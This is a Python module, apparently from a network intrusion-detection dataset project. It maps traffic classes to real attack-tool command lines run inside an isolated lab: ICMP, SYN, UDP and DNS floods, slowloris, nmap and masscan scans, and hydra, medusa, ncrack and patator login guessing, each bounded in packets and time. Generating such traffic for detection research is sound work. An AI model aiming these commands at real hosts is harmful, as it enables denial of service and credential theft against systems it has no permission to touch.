@@ -1,0 +1,1292 @@
+"""The attack catalogue: which real tool, with which options, makes each fine class of lab traffic.
+
+This module owns `CATALOGUE` (a list of `Variant`) and the small pieces an attack command needs that the lab does
+not ship: per-episode word lists cut to the episode's size, DNS query files and a DNS query payload, and a
+slowloris of its own (`python -m packetclip_training.lab.attacks slowloris ...`). It does not build namespaces,
+start daemons, capture or label (see `topology`, `services`, `capture`, `runner`): it only turns a `LabContext`
+and a scale into an argv that runs inside the attacker namespace.
+
+Every command is bounded twice: in packets (hping3 `-c`, nmap port lists and `--max-retries`, hydra word-list
+sizes, dnsperf `-n`, slowhttptest `-l` ...) and in seconds (each argv runs under `timeout`, and the runner kills
+the process group at `Variant.deadline(scale)`). Every target comes from the `LabContext`; nothing spoofs a
+source address (t50 is always given `--saddr`, hping3 never `--rand-source`).
+
+How many connections a variant makes matters to a per-connection dataset: Zeek (and the featurizer) key TCP and
+UDP connections by 5-tuple and ICMP by addresses plus type/code. Each variant's `connections` field says whether
+it makes "many" short connections (a new source or destination port per packet or attempt) or "few" long ones
+(one socket or one ICMP flow carrying the whole episode).
+"""
+
+from __future__ import annotations
+
+import argparse
+import ipaddress
+import logging
+import math
+import random
+import socket
+import string
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from packetclip_training.lab.context import LabContext
+
+log = logging.getLogger(__name__)
+
+# The runner kills an episode at `deadline(scale)`; tools with a start-up cost (nmap OS detection, hydra's
+# first connections) need a few seconds even at the tiny scales of the CI profile.
+MIN_DEADLINE_S = 10.0
+# Seconds kept between the tool's own `timeout` and the runner's kill, so the tool exits (and flushes) first.
+DEADLINE_MARGIN_S = 2.0
+# What the lab's login form answers to a wrong password (webapp.py). Tools are told this text rather than a
+# status code: hydra's http-post-form gives up on any 401 ("target is using HTTP auth"), whatever F= says.
+FORM_FAILURE_TEXT = "Login failed"
+
+Builder = Callable[["LabContext", float, float], list[str]]
+
+
+@dataclass(frozen=True)
+class Variant:
+    """One way of producing a fine class: a tool, its options, rate, target and timing."""
+
+    fine: str  # fine class (packetclip.classes.FINE_CLASSES)
+    name: str  # unique id "<fine>/<tool>-<what differs>"; appears in labels.tsv
+    tool: str  # executable whose version run.json records
+    heldout: bool  # True: only ever in the test split, to measure generalisation to unseen tools/options
+    max_seconds: float  # wall-clock bound of one episode at scale 1.0; scales linearly (see deadline)
+    build: Builder = field(repr=False, compare=False)  # (lab, scale, seconds the tool may run) -> argv
+    connections: str = "many"  # "many" short connections or "few" long ones (Zeek 5-tuple keying)
+    summary: str = ""  # one line: what makes this variant different from its siblings
+    # Signal `timeout` stops the tool with: KILL for tools that write state outside the workdir when asked to
+    # stop politely (ncrack saves a resume file under root's home on SIGTERM).
+    stop_signal: str = "TERM"
+
+    def deadline(self, scale: float) -> float:
+        """Seconds after which the runner kills the episode at this scale."""
+        return max(MIN_DEADLINE_S, self.max_seconds * scale)
+
+    def command(self, lab: LabContext, scale: float) -> list[str]:
+        """The argv to run inside the attacker namespace (cwd = lab.workdir), bounded by `deadline(scale)`."""
+        if not 0 < scale <= 10:
+            raise ValueError(f"scale must be in (0, 10], got {scale}")
+        tool_seconds = self.deadline(scale) - DEADLINE_MARGIN_S
+        argv = self.build(lab, scale, tool_seconds)
+        # `timeout` makes every tool stop on time even where its own bound is soft (masscan can hang after its
+        # scan; hydra waits on slow servers); -k follows a SIGTERM that is ignored with a SIGKILL.
+        return ["timeout", "-s", self.stop_signal, "-k", "1", f"{tool_seconds:.0f}", *argv]
+
+
+def scaled(base: int, scale: float, minimum: int = 1) -> int:
+    """`base` items at scale 1.0, proportionally fewer or more at other scales, never below `minimum`."""
+    return max(minimum, round(base * scale))
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# Files a command needs, written into lab.workdir when the command is built
+# ---------------------------------------------------------------------------------------------------------------
+
+
+def _read_lines(path: Path) -> list[str]:
+    if not path.is_file():
+        return []
+    return [line.strip() for line in path.read_text(errors="replace").splitlines() if line.strip()]
+
+
+def dictionary_files(
+    lab: LabContext, service: str, n_users: int, n_passwords: int, tag: str
+) -> tuple[Path, Path]:
+    """Username and password files of exactly `n_users` x `n_passwords` for one episode.
+
+    Decoys come from the lab's word lists (or numbered names when those are short); the right user sits in
+    the middle of its list and the right password late in its list, so an attack that stops at the first
+    success (`-f`) still tries most combinations, as a real guessing run does.
+    """
+    user, password = lab.credentials[service]
+    decoy_users = [u for u in _read_lines(lab.usernames_file) if u != user]
+    decoy_passwords = [p for p in _read_lines(lab.passwords_file) if p != password]
+    decoy_users += [f"user{i:04d}" for i in range(max(0, n_users - len(decoy_users)))]
+    decoy_passwords += [f"Passw0rd{i:04d}" for i in range(max(0, n_passwords - len(decoy_passwords)))]
+    users = decoy_users[: n_users - 1]
+    users.insert(len(users) // 2, user)
+    passwords = decoy_passwords[: n_passwords - 1]
+    passwords.insert(max(0, math.floor(len(passwords) * 0.85)), password)
+    users_path = lab.workdir / f"{tag}-users.txt"
+    passwords_path = lab.workdir / f"{tag}-passwords.txt"
+    users_path.write_text("\n".join(users) + "\n")
+    passwords_path.write_text("\n".join(passwords) + "\n")
+    return users_path, passwords_path
+
+
+def _random_label(rng: random.Random, length: int) -> str:
+    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(length))
+
+
+def dns_query_file(lab: LabContext, kind: str, n: int, tag: str) -> Path:
+    """A dnsperf/dig query file of `n` lines ("name type").
+
+    kind "existing": names the lab zone serves (its server names, the apex, and the lab's own query file);
+    kind "nonexistent": random labels under the zone, the "water torture" pattern that defeats caching.
+    """
+    rng = random.Random(f"{tag}-{n}")
+    if kind == "existing":
+        names = [f"{server}.{lab.dns_zone} A" for server in sorted(lab.servers)]
+        names += [f"{lab.dns_zone} SOA", f"{lab.dns_zone} NS", f"{lab.dns_zone} MX"]
+        names += [line for line in _read_lines(lab.dns_queries_file) if not line.startswith("#")]
+        lines = [names[i % len(names)] for i in range(n)]
+    elif kind == "nonexistent":
+        qtypes = ("A", "A", "A", "AAAA", "TXT")
+        lines = [
+            f"{_random_label(rng, rng.randint(8, 20))}.{lab.dns_zone} {rng.choice(qtypes)}" for _ in range(n)
+        ]
+    else:
+        raise ValueError(f"unknown DNS query kind {kind!r}")
+    path = lab.workdir / f"{tag}-queries.txt"
+    path.write_text("\n".join(lines) + "\n")
+    return path
+
+
+def dns_query_payload(lab: LabContext, tag: str) -> tuple[Path, int]:
+    """One DNS query for a zone name as raw bytes (for hping3 `-E`); returns the file and its length."""
+    import dns.message  # dnspython, a [train] dependency
+
+    query = dns.message.make_query(f"www.{lab.dns_zone}", "A", use_edns=0)
+    wire = query.to_wire()
+    path = lab.workdir / f"{tag}-dns-query.bin"
+    path.write_bytes(wire)
+    return path, len(wire)
+
+
+def sweep_block(sweep_cidr: str, scale: float) -> str:
+    """The first sub-block of the sweep CIDR with about 256*scale addresses (at least 16, at most all of it).
+
+    The first block holds the lab's live servers, so even a small sweep finds hosts among the unused ones.
+    """
+    network = ipaddress.IPv4Network(sweep_cidr, strict=False)
+    wanted = min(network.num_addresses, max(16, round(256 * scale)))
+    prefix = max(network.prefixlen, 32 - math.ceil(math.log2(wanted)))
+    return str(next(network.subnets(new_prefix=prefix)))
+
+
+def _safe_tag(name: str) -> str:
+    return name.replace("/", "_")
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# Command builders, one small function per family of variants
+# ---------------------------------------------------------------------------------------------------------------
+
+
+def hping3(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
+    """hping3 with fixed options, `count` packets at scale 1.0 (`-c`), quiet, never spoofed."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        return ["hping3", *options, "-c", str(scaled(count, scale, 20)), "-q", target(lab)]
+
+    return build
+
+
+def t50(protocol: str, *options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
+    """t50 sending `count` packets of `protocol`; `--saddr` pins the attacker address (t50 randomises it)."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        threshold = str(scaled(count, scale, 20))
+        return [
+            "t50",
+            target(lab),
+            "--protocol",
+            protocol,
+            *options,
+            "--threshold",
+            threshold,
+            "--saddr",
+            lab.attacker_ip,
+        ]
+
+    return build
+
+
+def nping(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
+    """nping (from the nmap package) sending `count` probes per target at the given `--rate`."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        return ["nping", *options, "-c", str(scaled(count, scale, 20)), "-q", target(lab)]
+
+    return build
+
+
+def nping_sweep(*options: str) -> Builder:
+    """nping probing every address of the (scaled) sweep block once."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        return ["nping", *options, "-c", "1", "-q", sweep_block(lab.sweep_cidr, scale)]
+
+    return build
+
+
+def ping_flood(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        return [
+            "ping",
+            "-n",
+            "-q",
+            *options,
+            "-c",
+            str(scaled(count, scale, 20)),
+            "-w",
+            f"{seconds:.0f}",
+            target(lab),
+        ]
+
+    return build
+
+
+def dnsperf(kind: str, *options: str, queries: int) -> Builder:
+    """dnsperf through a query file of `queries` lines, once (`-n 1`), for at most the episode's seconds."""
+
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        tag = f"dnsperf-{kind}-x{scale:g}"
+        path = dns_query_file(lab, kind, scaled(queries, scale, 50), tag)
+        return [
+            "dnsperf",
+            "-s",
+            lab.servers["dns"],
+            "-d",
+            str(path),
+            "-n",
+            "1",
+            "-l",
+            f"{seconds - 1:.0f}",
+            "-t",
+            "2",
+            *options,
+        ]
+
+    return build
+
+
+def dig_batch(queries: int) -> Builder:
+    """dig in batch mode: one query per line of a file, each from a fresh socket (a new UDP connection)."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        path = dns_query_file(lab, "nonexistent", scaled(queries, scale, 30), f"dig-batch-x{scale:g}")
+        server = lab.servers["dns"]
+        return ["dig", f"@{server}", "-f", str(path), "+tries=1", "+time=1", "+noall", "+answer"]
+
+    return build
+
+
+def hping3_dns(count: int) -> Builder:
+    """hping3 replaying one DNS query payload to port 53 from an incrementing source port (many connections)."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        payload, length = dns_query_payload(lab, "hping3")
+        return [
+            "hping3",
+            "--udp",
+            "-p",
+            "53",
+            "-s",
+            "20000",
+            "-E",
+            str(payload),
+            "-d",
+            str(length),
+            "-i",
+            "u500",
+            "-c",
+            str(scaled(count, scale, 20)),
+            "-q",
+            lab.servers["dns"],
+        ]
+
+    return build
+
+
+def slowhttptest(
+    mode: str, url: Callable[[LabContext], str], connections: int, interval: int, rate: int, test_seconds: int
+) -> Builder:
+    """slowhttptest in slow-headers (-H) or slow-body (-B) mode; `-l` bounds the test length."""
+
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        length = max(3, min(round(test_seconds * scale), int(seconds) - 2))
+        return [
+            "slowhttptest",
+            mode,
+            "-c",
+            str(scaled(connections, scale, 10)),
+            "-i",
+            str(interval),
+            "-r",
+            str(rate),
+            "-l",
+            str(length),
+            "-x",
+            "24",
+            "-p",
+            "3",
+            "-u",
+            url(lab),
+        ]
+
+    return build
+
+
+def python_slowloris(server: str, port: int, connections: int, interval: float, test_seconds: int) -> Builder:
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        length = max(3.0, min(test_seconds * scale, seconds - 2))
+        return [
+            "python3",
+            "-m",
+            "packetclip_training.lab.attacks",
+            "slowloris",
+            lab.servers[server],
+            "--port",
+            str(port),
+            "--connections",
+            str(scaled(connections, scale, 10)),
+            "--interval",
+            str(interval),
+            "--seconds",
+            f"{length:.0f}",
+        ]
+
+    return build
+
+
+def nmap(
+    *options: str, ports: Callable[[float], list[str]], targets: Callable[[LabContext, float], list[str]]
+) -> Builder:
+    """nmap with few retries, a per-host timeout inside the episode's bound and no DNS resolution."""
+
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        host_timeout = max(5, int(seconds) - 1)
+        return [
+            "nmap",
+            "-n",
+            "--max-retries",
+            "1",
+            "--host-timeout",
+            f"{host_timeout}s",
+            *options,
+            *ports(scale),
+            *targets(lab, scale),
+        ]
+
+    return build
+
+
+def port_range(top: int, start: int = 1, minimum: int = 20) -> Callable[[float], list[str]]:
+    return lambda scale: ["-p", f"{start}-{start + scaled(top, scale, minimum) - 1}"]
+
+
+def port_list(spec: str) -> Callable[[float], list[str]]:
+    return lambda _scale: ["-p", spec]
+
+
+def top_ports(top: int, minimum: int = 20) -> Callable[[float], list[str]]:
+    return lambda scale: ["--top-ports", str(scaled(top, scale, minimum))]
+
+
+def no_ports(_scale: float) -> list[str]:
+    return []
+
+
+def servers(*names: str) -> Callable[[LabContext, float], list[str]]:
+    return lambda lab, _scale: [lab.servers[name] for name in names]
+
+
+def sweep(lab: LabContext, scale: float) -> list[str]:
+    return [sweep_block(lab.sweep_cidr, scale)]
+
+
+def masscan(ports: int, rate: int, wait: int) -> Builder:
+    """masscan builds its own frames: lab hosts have no default route, so it is given the adapter and the
+    router's MAC; it can hang after the scan (robertdavidgraham/masscan#144), which `timeout` cuts."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        top = scaled(ports, scale, 50)
+        return [
+            "masscan",
+            *servers("web", "web2", "ssh", "ftp")(lab, scale),
+            "-p",
+            f"1-{top}",
+            "--rate",
+            str(rate),
+            "--wait",
+            str(wait),
+            "--adapter",
+            lab.attacker_iface,
+            "--adapter-ip",
+            lab.attacker_ip,
+            "--router-mac",
+            lab.gateway_mac,
+        ]
+
+    return build
+
+
+def fping(block: Callable[[LabContext, float], list[str]]) -> Builder:
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        return ["fping", "-a", "-q", "-r", "0", "-i", "5", "-t", "200", "-g", *block(lab, scale)]
+
+    return build
+
+
+def hydra(
+    service: str, threads: int, users: int, passwords: int, module: Callable[[LabContext], list[str]]
+) -> Builder:
+    """hydra with `threads` parallel tasks over users x passwords (scaled), stopping at the first success."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n_users = scaled(users, math.sqrt(scale), 2)
+        n_passwords = scaled(passwords, math.sqrt(scale), 4)
+        users_path, passwords_path = dictionary_files(
+            lab, service, n_users, n_passwords, f"hydra-{service}-t{threads}"
+        )
+        return [
+            "hydra",
+            "-I",
+            "-f",
+            "-t",
+            str(threads),
+            "-w",
+            "5",
+            "-L",
+            str(users_path),
+            "-P",
+            str(passwords_path),
+            *module(lab),
+        ]
+
+    return build
+
+
+def medusa(service: str, module: str, threads: int, users: int, passwords: int) -> Builder:
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n_users = scaled(users, math.sqrt(scale), 2)
+        n_passwords = scaled(passwords, math.sqrt(scale), 4)
+        users_path, passwords_path = dictionary_files(
+            lab, service, n_users, n_passwords, f"medusa-{module}-x{scale:g}"
+        )
+        return [
+            "medusa",
+            "-h",
+            lab.servers[service],
+            "-U",
+            str(users_path),
+            "-P",
+            str(passwords_path),
+            "-M",
+            module,
+            "-t",
+            str(threads),
+            "-f",
+            "-r",
+            "0",
+            "-R",
+            "0",
+        ]
+
+    return build
+
+
+def ncrack(service: str, scheme: str, connection_limit: int, users: int, passwords: int) -> Builder:
+    """ncrack with its own timing engine: it probes the service with one connection for several seconds before
+    it opens `cl`..`CL` parallel ones; `at=2` (two attempts per connection) makes its connections short.
+    It is stopped with SIGKILL (see the variant): SIGTERM, or its own `to=` limit, makes it save a resume file
+    under root's home."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n_users = scaled(users, math.sqrt(scale), 2)
+        n_passwords = scaled(passwords, math.sqrt(scale), 4)
+        users_path, passwords_path = dictionary_files(
+            lab, service, n_users, n_passwords, f"ncrack-{scheme}-x{scale:g}"
+        )
+        service_options = f"cl=4,CL={connection_limit},at=2"
+        return [
+            "ncrack",
+            "-f",
+            "-T4",
+            "-g",
+            service_options,
+            "-U",
+            str(users_path),
+            "-P",
+            str(passwords_path),
+            f"{scheme}://{lab.servers[service]}",
+        ]
+
+    return build
+
+
+def patator_form(threads: int, users: int, passwords: int) -> Builder:
+    """patator http_fuzz posting the login form; answers carrying the failure text stay quiet."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n_users = scaled(users, math.sqrt(scale), 2)
+        n_passwords = scaled(passwords, math.sqrt(scale), 4)
+        users_path, passwords_path = dictionary_files(
+            lab, "http_form", n_users, n_passwords, f"patator-form-x{scale:g}"
+        )
+        url = f"http://{lab.servers['web']}:{lab.login_port}/login"
+        return [
+            "patator",
+            "http_fuzz",
+            f"url={url}",
+            # patator 0.9 hands pycurl an empty CURLOPT_RESOLVE entry (an error) unless resolve= is given.
+            f"resolve={lab.servers['web']}:{lab.servers['web']}",
+            "method=POST",
+            "body=username=FILE0&password=FILE1",
+            f"0={users_path}",
+            f"1={passwords_path}",
+            "-x",
+            f"ignore:fgrep={FORM_FAILURE_TEXT}",
+            "-t",
+            str(threads),
+            "--max-retries=0",
+            "--timeout=5",
+        ]
+
+    return build
+
+
+def patator_ftp(threads: int, users: int, passwords: int) -> Builder:
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        n_users = scaled(users, math.sqrt(scale), 2)
+        n_passwords = scaled(passwords, math.sqrt(scale), 4)
+        users_path, passwords_path = dictionary_files(
+            lab, "ftp", n_users, n_passwords, f"patator-ftp-x{scale:g}"
+        )
+        return [
+            "patator",
+            "ftp_login",
+            f"host={lab.servers['ftp']}",
+            "user=FILE0",
+            "password=FILE1",
+            f"0={users_path}",
+            f"1={passwords_path}",
+            "persistent=0",
+            "-x",
+            "ignore:code=530",
+            "-x",
+            "quit:code=230",
+            "-t",
+            str(threads),
+            "--max-retries=0",
+            "--timeout=5",
+        ]
+
+    return build
+
+
+def _server(name: str) -> Callable[[LabContext], str]:
+    return lambda lab: lab.servers[name]
+
+
+def _http_form_module(lab: LabContext) -> list[str]:
+    form = f"/login:username=^USER^&password=^PASS^:F={FORM_FAILURE_TEXT}"
+    return ["-s", str(lab.login_port), lab.servers["web"], "http-post-form", form]
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# The catalogue
+# ---------------------------------------------------------------------------------------------------------------
+
+
+def _v(
+    fine: str,
+    name: str,
+    tool: str,
+    build: Builder,
+    max_seconds: float,
+    connections: str,
+    summary: str,
+    heldout: bool = False,
+    stop_signal: str = "TERM",
+) -> Variant:
+    return Variant(
+        fine=fine,
+        name=f"{fine}/{name}",
+        tool=tool,
+        heldout=heldout,
+        max_seconds=max_seconds,
+        build=build,
+        connections=connections,
+        summary=summary,
+        stop_signal=stop_signal,
+    )
+
+
+_FLOODS: list[Variant] = [
+    # ICMP: Zeek keys ICMP by addresses and type/code, so one flood at one victim is one long connection.
+    _v(
+        "icmp_flood",
+        "hping3-echo-1kpps",
+        "hping3",
+        hping3("--icmp", "-i", "u1000", count=20000, target=_server("web")),
+        30,
+        "few",
+        "echo requests at 1,000/s, 28-byte packets",
+    ),
+    _v(
+        "icmp_flood",
+        "hping3-echo-faster-1200b",
+        "hping3",
+        hping3("--icmp", "--faster", "-d", "1200", count=20000, target=_server("web2")),
+        30,
+        "few",
+        "echo requests as fast as hping3 --faster goes, 1,200-byte payload",
+    ),
+    _v(
+        "icmp_flood",
+        "ping-flood",
+        "ping",
+        ping_flood("-f", "-s", "512", count=20000, target=_server("ssh")),
+        30,
+        "few",
+        "iputils ping -f: one request per reply or per 10 ms, 512-byte payload",
+    ),
+    _v(
+        "icmp_flood",
+        "ping-2ms-64b",
+        "ping",
+        ping_flood("-i", "0.002", "-s", "64", count=10000, target=_server("dns")),
+        40,
+        "few",
+        "iputils ping every 2 ms, small payload",
+    ),
+    _v(
+        "icmp_flood",
+        "t50-icmp",
+        "t50",
+        t50("ICMP", count=20000, target=_server("web")),
+        30,
+        "few",
+        "t50 line-rate ICMP with random ids, sequence numbers and TTL 255",
+        heldout=True,
+    ),
+    # SYN: hping3 -S and t50 change the source port per packet, so every SYN is its own connection (S0/REJ).
+    _v(
+        "syn_flood",
+        "hping3-80-2kpps",
+        "hping3",
+        hping3("-S", "-p", "80", "-i", "u500", count=20000, target=_server("web")),
+        30,
+        "many",
+        "SYNs to nginx :80 at 2,000/s",
+    ),
+    _v(
+        "syn_flood",
+        "hping3-443-faster",
+        "hping3",
+        hping3("-S", "-p", "443", "-w", "64", "--faster", count=20000, target=_server("web")),
+        30,
+        "many",
+        "SYNs to :443 as fast as possible, tiny window",
+    ),
+    _v(
+        "syn_flood",
+        "hping3-22-1kpps",
+        "hping3",
+        hping3("-S", "-p", "22", "-i", "u1000", count=15000, target=_server("ssh")),
+        30,
+        "many",
+        "SYNs to sshd at 1,000/s",
+    ),
+    _v(
+        "syn_flood",
+        "hping3-apache-80-ttl",
+        "hping3",
+        hping3("-S", "-p", "80", "-i", "u300", "-t", "128", count=20000, target=_server("web2")),
+        30,
+        "many",
+        "SYNs to apache2 at ~3,000/s with a Windows-like TTL",
+    ),
+    _v(
+        "syn_flood",
+        "t50-syn-8080",
+        "t50",
+        t50("TCP", "--syn", "--dport", "8080", count=20000, target=_server("web")),
+        30,
+        "many",
+        "t50 SYNs with random sequence numbers and source ports, TTL 255, to the login port",
+        heldout=True,
+    ),
+    # UDP: hping3 --udp increments the source port per packet (many connections); nping keeps one socket (few).
+    _v(
+        "udp_flood",
+        "hping3-ntp-1kpps",
+        "hping3",
+        hping3("--udp", "-p", "123", "-d", "48", "-i", "u1000", count=20000, target=_server("ntp")),
+        30,
+        "many",
+        "48-byte datagrams to NTP at 1,000/s",
+    ),
+    _v(
+        "udp_flood",
+        "hping3-portsweep-512b",
+        "hping3",
+        hping3("--udp", "-p", "++1024", "-d", "512", "-i", "u200", count=20000, target=_server("mqtt")),
+        30,
+        "many",
+        "512-byte datagrams to an incrementing closed port (ICMP unreachables back)",
+    ),
+    _v(
+        "udp_flood",
+        "t50-udp-random-ports",
+        "t50",
+        t50("UDP", count=20000, target=_server("web2")),
+        30,
+        "many",
+        "t50 datagrams to random ports from random source ports",
+    ),
+    _v(
+        "udp_flood",
+        "nping-udp-1900",
+        "nping",
+        nping(
+            "--udp",
+            "-p",
+            "1900",
+            "--data-length",
+            "256",
+            "--rate",
+            "2000",
+            count=20000,
+            target=_server("mqtt"),
+        ),
+        30,
+        "few",
+        "nping datagrams from one socket at 2,000/s (one long connection)",
+        heldout=True,
+    ),
+]
+
+_DNS_AND_SLOW: list[Variant] = [
+    # dnsperf keeps one socket per client (-c): few long connections with thousands of queries each.
+    _v(
+        "dns_flood",
+        "dnsperf-existing-c4",
+        "dnsperf",
+        dnsperf("existing", "-c", "4", "-Q", "2000", queries=30000),
+        30,
+        "few",
+        "dnsperf, 4 clients, mostly existing zone names at up to 2,000 q/s",
+    ),
+    _v(
+        "dns_flood",
+        "dnsperf-water-torture-c16",
+        "dnsperf",
+        dnsperf("nonexistent", "-c", "16", "-Q", "5000", "-q", "200", queries=40000),
+        30,
+        "few",
+        "dnsperf, 16 clients, random non-existent names (water torture)",
+    ),
+    _v(
+        "dns_flood",
+        "dig-batch-nxdomain",
+        "dig",
+        dig_batch(queries=3000),
+        60,
+        "many",
+        "dig batch of random non-existent names, one socket per query",
+    ),
+    _v(
+        "dns_flood",
+        "hping3-raw-query",
+        "hping3",
+        hping3_dns(count=20000),
+        30,
+        "many",
+        "one crafted DNS query replayed by hping3 from incrementing source ports",
+        heldout=True,
+    ),
+    # Slow HTTP: each slowhttptest connection is one long TCP connection; a run opens -c of them.
+    _v(
+        "slowloris",
+        "slowhttptest-nginx-c600",
+        "slowhttptest",
+        slowhttptest("-H", lambda lab: f"http://{lab.servers['web']}/", 600, 10, 100, 45),
+        60,
+        "many",
+        "slow headers to nginx, 200 connections, a header every 10 s",
+    ),
+    _v(
+        "slowloris",
+        "slowhttptest-apache-c400-i5",
+        "slowhttptest",
+        slowhttptest("-H", lambda lab: f"http://{lab.servers['web2']}/", 400, 5, 100, 45),
+        60,
+        "many",
+        "slow headers to apache2, 150 connections, a header every 5 s",
+    ),
+    _v(
+        "slowloris",
+        "slowhttptest-https-c300",
+        "slowhttptest",
+        slowhttptest("-H", lambda lab: f"https://{lab.servers['web']}/", 300, 8, 50, 45),
+        60,
+        "many",
+        "slow headers inside TLS to nginx :443, 100 connections",
+    ),
+    _v(
+        "slowloris",
+        "python-slowloris-apache",
+        "python3",
+        python_slowloris("web2", 80, 400, 4.0, 45),
+        60,
+        "many",
+        "a slowloris of its own: partial GET, one X- header per socket every 4 s",
+    ),
+    _v(
+        "slowloris",
+        "slowhttptest-slow-body-login",
+        "slowhttptest",
+        slowhttptest("-B", lambda lab: f"http://{lab.servers['web']}:{lab.login_port}/login", 400, 5, 80, 45),
+        60,
+        "many",
+        "slow POST body (R-U-Dead-Yet) to the login form",
+        heldout=True,
+    ),
+]
+
+_RECON: list[Variant] = [
+    _v(
+        "port_scan",
+        "nmap-sS-T4-1024",
+        "nmap",
+        nmap("-sS", "-T4", "-Pn", ports=port_range(1024), targets=servers("web")),
+        60,
+        "many",
+        "SYN scan of ports 1-1024, aggressive timing",
+    ),
+    _v(
+        "port_scan",
+        "nmap-sT-T3-top200",
+        "nmap",
+        nmap("-sT", "-T3", "-Pn", ports=top_ports(200), targets=servers("ssh")),
+        60,
+        "many",
+        "connect() scan of the 200 most common ports, normal timing",
+    ),
+    _v(
+        "port_scan",
+        "nmap-sU-common",
+        "nmap",
+        nmap(
+            "-sU",
+            "-T4",
+            "-Pn",
+            ports=port_list("53,67-69,111,123,137,161,500,514,1900,5353,11211"),
+            targets=servers("dns", "ntp"),
+        ),
+        60,
+        "many",
+        "UDP scan of common UDP services on two hosts",
+    ),
+    _v(
+        "port_scan",
+        "nmap-sX-T4-500",
+        "nmap",
+        nmap("-sX", "-T4", "-Pn", ports=port_range(500), targets=servers("ftp")),
+        60,
+        "many",
+        "Xmas scan (FIN/PSH/URG) of ports 1-500",
+    ),
+    _v(
+        "port_scan",
+        "nmap-sF-T5-300",
+        "nmap",
+        nmap("-sF", "-T5", "-Pn", ports=port_range(300), targets=servers("web2")),
+        60,
+        "many",
+        "FIN scan of ports 1-300, insane timing",
+    ),
+    _v(
+        "port_scan",
+        "nmap-sA-T4-web",
+        "nmap",
+        nmap("-sA", "-T4", "-Pn", ports=port_range(400), targets=servers("web", "mqtt")),
+        60,
+        "many",
+        "ACK scan mapping filtering on two hosts",
+    ),
+    _v(
+        "port_scan",
+        "masscan-4hosts-1kpps",
+        "masscan",
+        masscan(ports=2000, rate=1000, wait=2),
+        # 4 hosts x 2,000 ports at 1,000/s plus the 2 s wait: a tight bound cuts masscan's post-scan hang short.
+        16,
+        "many",
+        "masscan's own TCP stack, one source port, four hosts at 1,000 probes/s",
+        heldout=True,
+    ),
+    # OS detection: -O is the defining part; nmap is the only active OS fingerprinter in Debian, so the held-out
+    # variant differs in technique around it (connect scan, UDP closed-port probe, many hosts) rather than tool.
+    _v(
+        "os_scan",
+        "nmap-O-tries1-few-ports",
+        "nmap",
+        nmap("-O", "--max-os-tries", "1", "-Pn", ports=port_list("1,22,80,443"), targets=servers("web")),
+        60,
+        "many",
+        "OS detection over an open and a closed port",
+    ),
+    _v(
+        "os_scan",
+        "nmap-O-guess-top1000",
+        "nmap",
+        nmap("-O", "--osscan-guess", "-T4", "-Pn", ports=top_ports(1000), targets=servers("ssh")),
+        60,
+        "many",
+        "OS detection with guessing after nmap's default top-1000 port scan",
+    ),
+    _v(
+        "os_scan",
+        "nmap-O-tries2-T3",
+        "nmap",
+        nmap("-O", "--max-os-tries", "2", "-T3", "-Pn", ports=port_range(1000), targets=servers("ftp")),
+        90,
+        "many",
+        "OS detection with two tries, normal timing",
+    ),
+    _v(
+        "os_scan",
+        "nmap-O-sV-light",
+        "nmap",
+        nmap(
+            "-O",
+            "-sV",
+            "--version-light",
+            "--max-os-tries",
+            "1",
+            "-Pn",
+            ports=port_list("1,21,22,53,80"),
+            targets=servers("dns"),
+        ),
+        90,
+        "many",
+        "OS detection combined with light service probing",
+    ),
+    _v(
+        "os_scan",
+        "nmap-O-limit-multihost",
+        "nmap",
+        nmap(
+            "-O",
+            "--osscan-limit",
+            "-T5",
+            "--max-os-tries",
+            "1",
+            ports=top_ports(300),
+            targets=servers("web2", "mqtt", "ntp"),
+        ),
+        90,
+        "many",
+        "OS detection across three hosts at insane timing, with host discovery",
+        heldout=True,
+    ),
+    _v(
+        "vulnerability_scan",
+        "nmap-vuln-web",
+        "nmap",
+        nmap(
+            "-sV",
+            "--script",
+            "vuln",
+            "--script-timeout",
+            "20s",
+            "-Pn",
+            ports=port_list("80,443,8080"),
+            targets=servers("web"),
+        ),
+        90,
+        "many",
+        "the vuln script category against nginx",
+    ),
+    _v(
+        "vulnerability_scan",
+        "nmap-http-enum-apache",
+        "nmap",
+        nmap(
+            "-sV",
+            "--script",
+            "http-enum,http-methods,http-headers",
+            "--script-timeout",
+            "30s",
+            "-Pn",
+            ports=port_list("80"),
+            targets=servers("web2"),
+        ),
+        90,
+        "many",
+        "web content enumeration of apache2",
+    ),
+    _v(
+        "vulnerability_scan",
+        "nmap-ssh-ftp-audit",
+        "nmap",
+        nmap(
+            "-sV",
+            "--script",
+            "ssh2-enum-algos,ssh-auth-methods,ftp-anon,ftp-syst",
+            "-Pn",
+            ports=port_list("21,22"),
+            targets=servers("ssh", "ftp"),
+        ),
+        60,
+        "many",
+        "SSH algorithm and FTP anonymous-login audit",
+    ),
